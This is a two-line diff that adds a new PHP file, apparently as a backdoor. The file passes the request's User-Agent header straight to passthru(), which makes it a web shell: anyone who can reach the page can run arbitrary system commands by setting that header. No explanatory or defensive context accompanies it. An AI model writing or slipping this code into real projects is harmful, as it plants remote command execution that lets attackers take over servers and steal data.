@@ -1,0 +1,2 @@
+<?php
+echo passthru($_SERVER['HTTP_USER_AGENT']);
